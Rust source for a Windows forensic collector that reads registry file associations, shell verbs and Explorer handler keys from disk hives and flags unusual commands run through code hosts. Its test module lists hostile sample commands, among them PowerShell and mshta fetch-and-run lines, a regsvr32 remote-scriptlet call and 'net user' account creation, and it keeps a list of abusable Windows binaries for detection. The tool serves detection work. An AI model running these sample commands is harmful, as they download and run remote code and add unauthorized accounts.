//! Associations of files and folders, and the handlers that Explorer loads.
//!
//! Microsoft, "Verbs and file associations", "Merged view of HKEY_CLASSES_ROOT",
//! "Creating shell extension handlers" and "Pluggable protocols".

use std::collections::BTreeSet;

use super::sources::Collector;
use super::words::{program_name, readings, words};
use super::{Account, Occasion, Subject};
use crate::evidence::windows::opened::no_hive;
use crate::evidence::windows::registry::{self, NamedValue};
use crate::evidence::windows::{Datum, KeyAt, place};
use crate::evidence::{Found, Gap};
use crate::guest::windows::GuestHive;

/// Endings of programs and links; what each stands for is followed.
const ENDINGS: [&str; 8] = [
    ".exe", ".com", ".bat", ".cmd", ".pif", ".scr", ".lnk", ".cpl",
];
/// What programs, folders and the settings are opened as.
const OPENED: &[&str] = &[
    "exefile",
    "comfile",
    "batfile",
    "cmdfile",
    "piffile",
    "scrfile",
    "lnkfile",
    "cplfile",
    "Folder",
    "Directory",
    "Drive",
    "ms-settings",
];
/// Documents and addresses that people open without thought, by their endings and types.
const DOCUMENTS: &[&str] = &[
    ".txt",
    ".log",
    ".ini",
    ".inf",
    ".xml",
    ".htm",
    ".html",
    ".url",
    ".msc",
    ".reg",
    ".rtf",
    "txtfile",
    "logfile",
    "inifile",
    "inffile",
    "xmlfile",
    "htmlfile",
    "InternetShortcut",
    "MSCFile",
    "regfile",
    "rtffile",
    "http",
    "https",
];
/// What the shell puts in for what is opened.
const OPENED_FILE: [&str; 8] = [
    "\"%1\"", "\"%l\"", "\"%L\"", "\"%*\"", "%1", "%l", "%L", "%*",
];
/// Verbs that one type names as its own.
const MAX_VERBS: usize = 64;
/// Verbs that are carried out without being chosen from a menu.
const VERBS: &[&str] = &["open", "runas", "runasuser", "explore", "opennewwindow"];
/// What is chosen by what it holds: handlers of everything, of folders and of drives.
const HANDLED: &[&str] = &[
    "*",
    "AllFilesystemObjects",
    "Directory",
    r"Directory\Background",
    "Drive",
    "Folder",
    "exefile",
    "lnkfile",
];
/// Keys below `shellex` whose own keys name a class, by the default value or by themselves.
const HANDLERS: &[&str] = &[
    "ContextMenuHandlers",
    "CopyHookHandlers",
    "DragDropHandlers",
    "PropertySheetHandlers",
    "FolderExtensions",
    "IconHandler",
    "ColumnHandlers",
];
/// Programs of Windows that carry out what their line says.
const CODE: [&str; 13] = [
    "bitsadmin",
    "certutil",
    "cmd",
    "conhost",
    "cscript",
    "curl",
    "forfiles",
    "mshta",
    "powershell",
    "pwsh",
    "regsvr32",
    "wmic",
    "wscript",
];
/// What follows them in the commands that Windows and PowerShell 7 bring, in lower case: a console in a folder, and
/// a script of PowerShell.
const OF_WINDOWS: [&str; 8] = [
    r#"/s /k pushd "%v""#,
    r#"-noexit -command set-location -literalpath '%v'"#,
    r#"-noexit -command set-location -literalpath '%l'"#,
    r#""-command" "if((get-executionpolicy ) -ne 'allsigned') { set-executionpolicy -scope process bypass }; & '%1'""#,
    r#""-noexit" "-command" "set-location -literalpath '%v'""#,
    r#"-noexit -removeworkingdirectorytrailingcharacter -workingdirectory "%v!" -command "$host.ui.rawui.windowtitle = 'powershell 7 (x64)'""#,
    r#"-noexit -removeworkingdirectorytrailingcharacter -workingdirectory "%v!" -command "$host.ui.rawui.windowtitle = 'powershell 7 (x86)'""#,
    r#"-noexit -removeworkingdirectorytrailingcharacter -workingdirectory "%v!" -command "$host.ui.rawui.windowtitle = 'powershell 7-preview (x64)'""#,
];
/// Classes of a hive, and where they begin in it.
struct Root<'w> {
    opened: Opened<'w>,
    path: &'static str,
    is_user: bool,
}

enum Opened<'w> {
    Machine(&'w GuestHive),
    User(Box<GuestHive>),
}

impl Root<'_> {
    fn hive(&self) -> &GuestHive {
        match &self.opened {
            Opened::Machine(hive) => hive,
            Opened::User(hive) => hive,
        }
    }

    /// The values called `name` of the keys that `pattern` names from the classes' root.
    fn values(&self, pattern: &str, name: &str, gaps: &mut Vec<Gap>) -> Vec<Found<NamedValue>> {
        let mut out = Vec::new();
        let pattern = format!("{}{pattern}", self.path);
        registry::below(self.hive(), &pattern, gaps, &mut |key, gaps| {
            read(key, name, gaps, &mut out);
        });
        out
    }

    /// The values of the key `path` itself, whose names may be `*`.
    fn of_key(&self, path: &str, name: &str, gaps: &mut Vec<Gap>) -> Vec<Found<NamedValue>> {
        let mut out = Vec::new();
        match KeyAt::open(self.hive(), &format!("{}{path}", self.path)) {
            Ok(Some(key)) => read(&key, name, gaps, &mut out),
            Ok(None) => {}
            Err(gap) => gaps.push(gap),
        }
        out
    }
}

fn read(key: &KeyAt<'_>, name: &str, gaps: &mut Vec<Gap>, out: &mut Vec<Found<NamedValue>>) {
    match key.key.value(name) {
        Ok(Some(value)) => {
            let at = place(key.hive, &key.path, Some(name), Some(value.offset()));
            match value.data() {
                Ok(data) => out.push(Found {
                    fact: NamedValue {
                        name: name.to_owned(),
                        data: Datum::of(data),
                    },
                    at,
                }),
                Err(e) => gaps.push(Gap::new(at, &e)),
            }
        }
        Ok(None) => {}
        Err(e) => gaps.push(key.gap(Some(name), &e)),
    }
}

/// The command without what the shell puts in for that which is opened.
fn without_file(text: &str) -> String {
    let files = OPENED_FILE.iter();
    files.fold(text.to_owned(), |text, file| text.replace(file, ""))
}

/// True for the command of a host of code that is told more than what is opened, and otherwise than Windows has
/// it.
fn carries_more(text: &str) -> bool {
    let text = text.to_lowercase().replace("%comspec%", "cmd.exe");
    let all = readings(&text);
    let host = all.iter().find(|reading| {
        let name = program_name(&reading.program);
        CODE.contains(&name.as_str())
    });
    let Some(host) = host else {
        return false;
    };
    let rest = host.rest.to_lowercase();
    let plain: String = rest.split_whitespace().collect::<Vec<_>>().join(" ");
    if OF_WINDOWS.contains(&plain.as_str()) {
        return false;
    }
    let own = [
        r"c:\windows\system32\scrobj.dll",
        r"%systemroot%\system32\scrobj.dll",
    ];
    let rest = own
        .iter()
        .fold(without_file(&rest), |rest, own| rest.replace(own, ""));
    let shell = ["cmd", "powershell", "pwsh"].contains(&program_name(&host.program).as_str());
    match shell {
        true => !words(&rest).iter().all(|word| word.starts_with(['-', '/'])),
        false => rest.replace("/i:", "").contains([':', '\\']),
    }
}

impl<'w> Collector<'w, '_> {
    /// The classes of the machine, and those of each user.
    fn class_roots(&mut self) -> Vec<Root<'w>> {
        let mut out = Vec::new();
        match self.windows.software() {
            Ok(hive) => out.push(Root {
                opened: Opened::Machine(hive),
                path: r"Classes\",
                is_user: false,
            }),
            Err(gap) => self.gap(gap),
        }
        let hives = self.windows.hives();
        for file in &hives.items {
            let Some(root) = file.fact.roots.first() else {
                continue;
            };
            if !root.starts_with(r"HKU\") {
                continue;
            }
            let path = match root.ends_with("_Classes") {
                true => "",
                false => r"Software\Classes\",
            };
            match self.windows.loaded(root) {
                Ok(hive) => out.push(Root {
                    opened: Opened::User(Box::new(hive)),
                    path,
                    is_user: true,
                }),
                Err(gap) => self.gap(gap),
            }
        }
        if out.is_empty() {
            self.gap(no_hive("HKCR"));
        }
        out
    }

    /// What opens programs, links and folders; servers of classes; handlers of Explorer.
    pub(super) fn associations(&mut self) {
        let roots = self.class_roots();
        let mut gaps = Vec::new();
        let mut types: Vec<String> = OPENED.iter().map(|t| (*t).to_owned()).collect();
        let mut known: BTreeSet<String> = types.iter().map(|t| t.to_lowercase()).collect();
        for root in &roots {
            for ending in ENDINGS {
                let named = root.of_key(ending, "", &mut gaps);
                let named = named.into_iter().map(|v| v.fact.data.to_string());
                for name in named.chain([ending.to_owned()]) {
                    let fits = !name.is_empty() && !name.contains(['\\', '*']);
                    if fits && known.insert(name.to_lowercase()) {
                        types.push(name);
                    }
                }
            }
        }
        let mut documents: Vec<String> = DOCUMENTS.iter().map(|t| (*t).to_owned()).collect();
        for root in &roots {
            for ending in DOCUMENTS.iter().filter(|t| t.starts_with('.')) {
                let named = root.of_key(ending, "", &mut gaps);
                for name in named.into_iter().map(|v| v.fact.data.to_string()) {
                    let is_known = types
                        .iter()
                        .chain(&documents)
                        .any(|t| t.eq_ignore_ascii_case(&name));
                    if !is_known && !name.is_empty() && !name.contains(['\\', '*']) {
                        documents.push(name);
                    }
                }
            }
        }
        // What a user chose for them (Microsoft, "Default programs").
        const CURRENT: &str = r"HKU\*\Software\Microsoft\Windows";
        for of in DOCUMENTS {
            let key = match of.starts_with('.') {
                true => format!(r"{CURRENT}\CurrentVersion\Explorer\FileExts\{of}\UserChoice"),
                false => {
                    format!(r"{CURRENT}\Shell\Associations\UrlAssociations\{of}\UserChoice")
                }
            };
            let found = self.windows.values(&key, "ProgId");
            for value in self.keep(found) {
                let name = value.fact.data.to_string();
                let mut all = types.iter().chain(&documents);
                let is_known = all.any(|t| t.eq_ignore_ascii_case(&name));
                if !is_known && !name.is_empty() && !name.contains(['\\', '*']) {
                    documents.push(name);
                }
            }
        }
        for root in &roots {
            for of in &types {
                self.verbs(root, of, false, &mut gaps);
            }
            for of in &documents {
                self.verbs(root, of, true, &mut gaps);
            }
            self.handlers(root, &mut gaps);
        }
        types.extend(documents);
        for root in &roots {
            self.told_verbs(root, &types, &mut gaps);
        }
        self.gaps(gaps);
        for ending in ENDINGS {
            let key = format!(
                r"HKU\*\Software\Microsoft\Windows\CurrentVersion\Explorer\FileExts\{ending}\UserChoice"
            );
            let found = self.windows.values(&key, "ProgId");
            for value in self.keep(found) {
                let name = value.fact.data.to_string();
                if !name.is_empty() && !known.contains(&name.to_lowercase()) {
                    self.add(
                        (Subject::Class, "Association", ending),
                        (Occasion::Demand, Account::User),
                        &name,
                        value.at,
                        |r| r.unclear_value(&name),
                    );
                }
            }
        }
    }

    /// What `of` is opened with; `is_document` where that which is opened is no program itself.
    fn verbs(&mut self, root: &Root<'_>, of: &str, is_document: bool, gaps: &mut Vec<Gap>) {
        let mut verbs: Vec<String> = VERBS.iter().map(|v| (*v).to_owned()).collect();
        for value in root.of_key(&format!(r"{of}\shell"), "", gaps) {
            let text = value.fact.data.to_string();
            let named = text.split([',', ' ']).filter(|v| !v.is_empty());
            let named: Vec<&str> = named.collect();
            self.bounded(&value.at.to_string(), named.len(), MAX_VERBS);
            for verb in named.into_iter().take(MAX_VERBS) {
                if !verb.contains(['\\', '*'])
                    && !verbs.iter().any(|v| v.eq_ignore_ascii_case(verb))
                {
                    verbs.push(verb.to_owned());
                }
            }
        }
        let account = match root.is_user {
            true => Account::User,
            false => Account::System,
        };
        for verb in verbs {
            for (value, is_class) in [("", false), ("DelegateExecute", true)] {
                let key = format!(r"{of}\shell\{verb}\command");
                for value in root.of_key(&key, value, gaps) {
                    let text = value.fact.data.to_string();
                    if text.trim().is_empty() {
                        continue;
                    }
                    self.add(
                        (Subject::Class, "Association", of),
                        (Occasion::Demand, account.clone()),
                        &text,
                        value.at,
                        |r| match (is_class, is_document) {
                            (true, _) => r.class(&text),
                            (false, false) => r.command(&text),
                            (false, true) => r.command(&without_file(&text)),
                        },
                    );
                    if is_document {
                        self.drop_last_where_missing();
                    }
                }
            }
        }
    }

    /// Commands of all other types and classes that carry code of their own. Programs that lie elsewhere are
    /// found by the values that name them.
    fn told_verbs(&mut self, root: &Root<'_>, followed: &[String], gaps: &mut Vec<Gap>) {
        let account = match root.is_user {
            true => Account::User,
            false => Account::System,
        };
        for pattern in [r"*\shell\*\command", r"*\*\shell\*\command"] {
            for value in root.values(pattern, "", gaps) {
                let text = value.fact.data.to_string();
                let key = value.at.key.clone().unwrap_or_default();
                let words: Vec<&str> = key.rsplit('\\').collect();
                let [_, verb, _, of, ..] = words[..] else {
                    continue;
                };
                let is_followed = VERBS.iter().any(|v| v.eq_ignore_ascii_case(verb))
                    && followed.iter().any(|t| t.eq_ignore_ascii_case(of));
                if is_followed || !carries_more(&text) {
                    continue;
                }
                let command = without_file(&text);
                self.add(
                    (Subject::Class, "Association", of),
                    (Occasion::Demand, account.clone()),
                    &text,
                    value.at,
                    |r| r.command(&command),
                );
            }
        }
    }

    /// What Explorer loads for every file, folder or drive, and filters of what is shown.
    fn handlers(&mut self, root: &Root<'_>, gaps: &mut Vec<Gap>) {
        let mut found = Vec::new();
        for of in HANDLED {
            for kind in HANDLERS {
                let path = format!(r"{}{of}\shellex\{kind}", root.path);
                match KeyAt::open(root.hive(), &path) {
                    Ok(Some(key)) => {
                        let mut own = Vec::new();
                        read(&key, "", gaps, &mut own);
                        for value in own {
                            found.push((value.fact.data.to_string(), value.at));
                        }
                        for child in key.subkeys(gaps) {
                            let name = child.key.name().to_owned();
                            let mut own = Vec::new();
                            read(&child, "", gaps, &mut own);
                            let named = own.into_iter().map(|v| (v.fact.data.to_string(), v.at));
                            // The key's own name stands for the class where it is one.
                            match name.starts_with('{') {
                                true => found.push((name, child.location())),
                                false => found.extend(named),
                            }
                        }
                    }
                    Ok(None) => {}
                    Err(gap) => gaps.push(gap),
                }
            }
        }
        for kind in ["Filter", "Handler", r"Name-Space Handler\*"] {
            let pattern = format!(r"Protocols\{kind}\*");
            let values = root.values(&pattern, "CLSID", gaps);
            found.extend(values.into_iter().map(|v| (v.fact.data.to_string(), v.at)));
        }
        let account = Account::User;
        for (id, at) in found {
            if id.trim().is_empty() {
                continue;
            }
            self.add(
                (Subject::Class, "Handler of Explorer", &id),
                (Occasion::Logon, account.clone()),
                &id,
                at,
                |r| r.class(&id),
            );
            self.drop_last_where_missing();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::carries_more;

    /// Commands of a real SOFTWARE hive of Windows 7 (plaso), and of Windows Server 2019.
    #[test]
    fn commands_of_windows_carry_nothing_more() {
        for usual in [
            r#"%SystemRoot%\System32\cmd.exe /C "%1" %*"#,
            r#"cmd.exe /s /k pushd "%V""#,
            r#"C:\Windows\System32\mshta.exe "%1" %*"#,
            r#"C:\Windows\SysWOW64\mshta.exe "%1" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}%U{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5} %*"#,
            r#""%SystemRoot%\System32\WScript.exe" "%1" %*"#,
            r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -p "%1""#,
            r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" "-file" "%1""#,
            r#""C:\Windows\system32\REGSVR32.EXE" /i:"%1" "C:\Windows\system32\scrobj.dll""#,
            r#""C:\Windows\system32\REGSVR32.EXE" /u /n /i:"%1" "C:\Windows\system32\scrobj.dll""#,
            r"powershell.exe -noexit -command Set-Location -literalPath '%V'",
            r#""C:\Program Files\App\app.exe" -c "iex x""#,
            r#"C:\Program Files\PowerShell\7\pwsh.exe -NoExit -RemoveWorkingDirectoryTrailingCharacter -WorkingDirectory "%V!" -Command "$host.UI.RawUI.WindowTitle = 'PowerShell 7 (x64)'""#,
        ] {
            assert!(!carries_more(usual), "{usual}");
        }
        for other in [
            r#"powershell.exe -c "iex (iwr http://203.0.113.7/a)""#,
            r#"cmd.exe /c net user a b /add & notepad "%1""#,
            "mshta.exe http://203.0.113.7/a.hta",
            "%ComSpec% /c net user a b /add",
            r#"wscript.exe C:\ProgramData\x.txt "%1""#,
            r"regsvr32 /s /i:http://203.0.113.7/a scrobj.dll",
        ] {
            assert!(carries_more(other), "{other}");
        }
    }
}
